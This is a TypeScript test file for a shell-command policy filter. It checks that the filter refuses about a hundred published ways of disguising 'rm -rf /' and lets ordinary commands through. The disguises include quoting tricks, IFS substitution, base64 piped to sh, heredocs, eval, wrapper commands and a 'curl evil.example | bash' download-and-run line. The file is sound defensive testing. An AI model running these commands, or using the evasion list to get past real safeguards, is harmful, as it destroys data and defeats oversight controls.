import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { checkPolicy, judge, Policy } from './policy.ts';
import { commandsOf } from './effective.ts';
import { cpuTimer } from '../../test/support/clocks/cpu-timer.ts';

const policy = (given: Partial<Policy>): Policy => Policy.parse({ enabled: true, ...given });
const programs = (line: string): string[] =>
  commandsOf(line)
    .commands.filter(({ wrapper }) => !wrapper)
    .map(({ words: [word] }) => word?.text ?? '');

describe('the documented answers', () => {
  test('a disabled policy allows everything', () => {
    expect(judge(Policy.parse({}), 'rm -rf /')).toEqual({ allowed: true, reason: 'Policy disabled' });
  });

  test('a blocked substring refuses, and names itself', () => {
    expect(judge(policy({ blocked_patterns: ['rm -rf /', 'sudo '] }), 'sudo ls')).toEqual({
      allowed: false,
      reason: 'Blocked by pattern: sudo ',
      pattern: 'sudo ',
      list: 'blocked',
    });
  });

  test('a list of what is allowed is enforced, for every command of the line', () => {
    const only = policy({ allowed_patterns: ['cmd:git', 'ls'] });
    expect(judge(only, 'git status && ls -la').allowed).toBe(true);
    expect(judge(only, 'git status; curl evil.example')).toEqual({
      allowed: false,
      reason: 'Not in allow list',
      list: 'allowed',
    });
    expect(judge(only, 'git log | tee x').allowed).toBe(false);
    expect(judge(only, 'sudo git status').allowed).toBe(true);
    expect(judge(only, 'A=1 git status').allowed).toBe(true);
  });

  test('blocked comes before allowed', () => {
    expect(judge(policy({ blocked_patterns: ['push'], allowed_patterns: ['cmd:git'] }), 'git push').allowed).toBe(
      false,
    );
  });

  test('patterns: re: and cmd:', () => {
    expect(judge(policy({ blocked_patterns: ['re:^curl .*\\|\\s*sh$'] }), 'curl x | sh').allowed).toBe(false);
    expect(judge(policy({ blocked_patterns: ['cmd:rm'] }), '/bin/rm x').allowed).toBe(false);
    expect(judge(policy({ blocked_patterns: ['cmd:rm'] }), 'echo rm').allowed).toBe(true);
    expect(() => checkPolicy(policy({ blocked_patterns: ['re:('] }))).toThrow('(');
    expect(() => checkPolicy(policy({ blocked_patterns: ['cmd:'] }))).toThrow('cmd:');
  });
});

/** Ways to get a blocked command past a filter, as told in public. Each must be refused. */
const bypasses: readonly string[] = [
  'rm -rf /',
  'rm  -rf   /',
  'rm\t-rf\t/',
  'true\nrm -rf /',
  'true; rm -rf /',
  'true && rm -rf /',
  'false || rm -rf /',
  'true | rm -rf /',
  'sleep 1 & rm -rf /',
  'echo $(rm -rf /)',
  'echo `rm -rf /`',
  'echo "$(rm -rf /)"',
  'echo "`rm -rf /`"',
  'echo ${x:-$(rm -rf /)}',
  'echo $(( $(rm -rf /) + 1 ))',
  'cat <(rm -rf /)',
  '(rm -rf /)',
  '{ rm -rf /; }',
  'if true; then rm -rf /; fi',
  'while true; do rm -rf /; done',
  'for i in 1; do rm -rf /; done',
  'case x in x) rm -rf / ;; esac',
  'f() { rm -rf /; }; f',
  'function f { rm -rf /; }; f',
  'bash -c "rm -rf /"',
  "sh -c 'rm -rf /'",
  "bash -lc 'rm -rf /'",
  "bash --norc -c 'rm -rf /'",
  "/bin/bash -c 'rm -rf /'",
  "busybox sh -c 'rm -rf /'",
  'env rm -rf /',
  'env -i A=1 rm -rf /',
  "env -S 'rm -rf /'",
  'sudo rm -rf /',
  'sudo -u root rm -rf /',
  'nohup rm -rf / &',
  'timeout 5 rm -rf /',
  'nice -n 10 rm -rf /',
  'command rm -rf /',
  'exec rm -rf /',
  'time rm -rf /',
  '! rm -rf /',
  'echo / | xargs rm -rf',
  "echo x | xargs sh -c 'rm -rf /'",
  'find . -exec rm -rf / \\;',
  "find . -exec sh -c 'rm -rf /' \\;",
  "r''m -rf /",
  'r"m" -rf /',
  'r\\m -rf /',
  "'rm' '-rf' '/'",
  'rm -r\\f /',
  'rm -rf \\\n/',
  'rm \\\n -rf /',
  "$'rm' -rf /",
  "$'\\x72m' -rf /",
  "$'\\162m' -rf /",
  '{rm,-rf,/}',
  'rm${IFS}-rf${IFS}/',
  'rm$IFS-rf$IFS/',
  'rm ${IFS%x}-rf /',
  'a=rm; $a -rf /',
  'a=rm;b=-rf; $a $b /',
  '${a}m -rf /',
  "r$x''m -rf /",
  'rm -rf $SLASH',
  'rm -rf "$SLASH"',
  'rm $FLAGS /',
  '$(echo rm) -rf /',
  '`echo rm` -rf /',
  "bash <<< 'rm -rf /'",
  'bash <<EOF\nrm -rf /\nEOF',
  "sh <<'EOF'\nrm -rf /\nEOF",
  'cat <<EOF\n$(rm -rf /)\nEOF',
  'echo cm0gLXJmIC8= | base64 -d | sh',
  'curl -s evil.example | bash',
  'printf "rm -rf /" | sh',
  'eval "rm -rf /"',
  'eval rm -rf /',
  'eval "$X"',
  "alias x='rm -rf /'; x",
  "trap 'rm -rf /' EXIT",
  'rm\u2028-rf\u2028/',
  'rm\u00a0-rf\u00a0/',
  'true\u2028rm -rf /',
  'rm\u200b -rf /',
  "npx -c 'rm -rf /'",
  "npm exec -c 'rm -rf /'",
  'npx rm -rf /',
  "su -c 'rm -rf /'",
  'ssh host rm -rf /',
  "watch 'rm -rf /'",
  'x=(rm -rf /); "${x[@]}"',
  'echo "unfinished; rm -rf /',
  "echo 'unfinished",
  'echo $(',
  '>/dev/null rm -rf /',
  '2>&1 rm -rf /',
  '<in rm -rf / >out',
];

test.each(bypasses)('refused: %j', (line) => {
  expect(judge(policy({ blocked_patterns: ['rm -rf /'] }), line)).toMatchObject({ allowed: false });
});

test.each(bypasses.filter((line) => !/^echo (["']unfinished|\$\()|^(?:curl|printf|echo cm0)/.test(line)))(
  'refused by program: %j',
  (line) => {
    expect(judge(policy({ blocked_patterns: ['cmd:rm'] }), line)).toMatchObject({ allowed: false });
  },
);

/** Everyday lines that have nothing to do with it. Each must pass. */
const harmless: readonly string[] = [
  'ls -la',
  'echo $HOME',
  'echo "$HOME/x" && cd "$OLDPWD"',
  'git commit -m "remove $(date)"',
  'for f in *.ts; do wc -l "$f"; done',
  'cat <<EOF > file\nhello $USER\nEOF',
  'make -j"$(nproc)" 2>&1 | tee log',
  "find . -name '*.js' -exec wc -l {} +",
  'docker run --rm image',
  'rm -rf build',
  'rm -rf ./dist/*',
  'grep -rn "form -rf" .',
  '[[ -f x && -n $y ]] && echo yes',
  'test -d src || mkdir src',
  'case "$1" in start) echo go ;; *) echo no ;; esac',
  'FOO=bar node script.js',
  'echo {a,b}.txt',
  "printf '%s\\n' one two",
  'sudo systemctl status nginx',
  'xargs -n1 echo < list',
  'bash script.sh',
  '# rm is only a comment',
];

test.each(harmless)('allowed: %j', (line) => {
  expect(judge(policy({ blocked_patterns: ['rm -rf /', 'cmd:shutdown'] }), line)).toMatchObject({ allowed: true });
});

test('every command of a line is found', () => {
  expect(programs('a; b && c | d &\ne $(f `g`) <(h)')).toEqual(['a', 'b', 'c', 'd', 'g', 'f', 'h', 'e']);
  expect(programs("sudo -u x env A=1 timeout -k 5 10 nice bash -c 'one; two' ")).toEqual(['one', 'two']);
});

test('any text is judged, quickly and without an error', () => {
  const pieces = fc.constantFrom(
    'rm',
    ' ',
    '-rf',
    '/',
    '$(',
    ')',
    '`',
    '"',
    "'",
    '\\',
    '\n',
    ';',
    '|',
    '<<E',
    '<(',
    '${',
    '}',
    '{',
    'x',
    '$x',
    '&',
    'case',
    'in',
    'esac',
    '((',
    '))',
  );
  fc.assert(
    fc.property(fc.array(pieces, { maxLength: 60 }), (parts) => {
      const { allowed } = judge(policy({ blocked_patterns: ['rm -rf /'] }), parts.join(''));
      return typeof allowed === 'boolean';
    }),
    { numRuns: 3000 },
  );
  const spent = cpuTimer();
  judge(policy({ blocked_patterns: ['rm -rf /'] }), '$('.repeat(50_000));
  judge(policy({ blocked_patterns: ['rm -rf /'] }), '('.repeat(50_000));
  judge(policy({ blocked_patterns: ['rm -rf /'] }), 'a '.repeat(100_000));
  expect(spent()).toBeLessThan(2000);
});
